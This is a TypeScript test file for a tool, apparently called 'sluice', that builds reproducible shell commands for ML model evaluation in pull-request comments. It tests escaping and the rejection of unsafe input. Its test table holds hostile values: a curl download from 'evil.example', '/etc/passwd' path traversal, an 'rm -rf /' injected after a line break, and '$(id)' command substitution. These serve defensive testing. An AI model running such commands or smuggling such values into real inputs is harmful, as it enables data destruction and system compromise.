import { execFileSync } from 'node:child_process'
import { parseCommandLine } from '../../../src/commands/command-line.ts'
import { readInputs } from '../../../src/host/read-inputs.ts'
import { makeVerdict } from '../../../src/judge/verdict.ts'
import { type Place, reproduceCommand, shellLine } from '../../../src/report/comment/reproduce.ts'
import { parseReference } from '../../../src/sources/references/parse.ts'
import { FACTS, VERDICTS } from '../fixture-verdicts.ts'

const HEAD = 'c0ffee'.padEnd(40, '0')
const BASE = 'badcafe'.padEnd(40, '0')
const PLACE: Place = { headSha: HEAD, policyPath: 'sluice.yml', pullRequest: 12 }

type Names = { candidate?: string; baseline?: string | null; data?: string; model?: string }

function command(
  { candidate = 'models/m.onnx', baseline = `git:${BASE}:models/m.onnx`, data = `git:${BASE}:data/d.parquet`, model = 'income' }: Names,
  place = PLACE,
) {
  const file = (reference: string) => ({ reference, sha256: '1'.repeat(64), bytes: 1 })
  const subject = {
    candidate: file(candidate),
    baseline: baseline === null ? null : file(baseline),
    data: [{ role: 'evaluation', reference: data, sha256: '3'.repeat(64), rows: 1 }],
  }
  const { checks, verdict: word, reasonCode, message, remedy } = VERDICTS.pass[0]
  const verdict = makeVerdict({ ...FACTS, model, subject }, { verdict: word, reasonCode, message, remedy, checks })
  return reproduceCommand({ model, gate: 'evaluate', verdict, origin: 'x' }, place)
}

test('names commits, is understood by the command line, and each reference by the resolver', async () => {
  const words = command({}) ?? []
  expect(shellLine(words)).toBe(
    `sluice evaluate --policy sluice.yml --model income --candidate git:${HEAD}:models/m.onnx --baseline git:${BASE}:models/m.onnx --evaluation-data git:${BASE}:data/d.parquet`,
  )
  const sink = {
    write: (text: string) => {
      throw new Error(text)
    },
  }
  const asked = await parseCommandLine(words.slice(1), { version: '0', stdout: sink, stderr: sink })
  if (asked.kind !== 'command') throw new Error('it was not understood')
  expect(asked.command.name).toBe('evaluate')
  const inputs = readInputs('evaluate', { flags: asked.flags, step: null })
  expect(inputs).toMatchObject({ policy: 'sluice.yml', model: 'income' })
  expect(parseReference(inputs.candidate ?? '', '--candidate')).toMatchObject({ kind: 'git', revision: HEAD, path: 'models/m.onnx' })
  expect(parseReference(inputs.evaluationData ?? '', '--evaluation-data')).toMatchObject({
    kind: 'git',
    revision: BASE,
    path: 'data/d.parquet',
  })
})

test('paths of the policy are paths from its folder', () => {
  expect(command({}, { ...PLACE, policyPath: 'ml/income/sluice.yml' })).toContain(`git:${HEAD}:ml/income/models/m.onnx`)
  expect(command({ candidate: '../m.onnx' }, { ...PLACE, policyPath: 'ml/sluice.yml' })).toContain(`git:${HEAD}:m.onnx`)
})

test('without a baseline there is no flag for it', () => {
  expect(command({ baseline: null })).not.toContain('--baseline')
})

test.each([
  ['a command', { candidate: 'run:curl evil.example/x -o {out}' }],
  ['a command among several', { data: 'a.csv, run:curl {out}' }],
  ['an artifact, which is gone soon', { candidate: 'artifact:model' }],
  ['what is released', { baseline: 'released' }],
  ['a flag', { candidate: '--out=/etc' }],
  ['a path out of the repository', { candidate: '../../etc/passwd' }],
  ['an absolute path', { candidate: '/etc/passwd' }],
  ['a line break', { candidate: 'a\nrm -rf /' }],
  ['text that runs backwards', { candidate: 'a\u202Eb' }],
  ['a model with a line break', { model: 'a\nb' }],
  ['a git reference by a name that moves', { baseline: 'git:main:m.onnx' }],
])('%s is not repeated', (_, names) => {
  expect(command(names)).toBeNull()
})

test('a shell takes each word for one, whatever is in it', () => {
  const words = ["it's", '$(id)', '`id`', 'a b', '"', '\\', ';', '|', '*', '~', '!x', '#', '', '\u{1F600}']
  const printed = execFileSync('sh', ['-c', `printf '%s\\n' ${shellLine(words)}`], { encoding: 'utf8' })
  expect(printed).toBe(`${words.join('\n')}\n`)
})
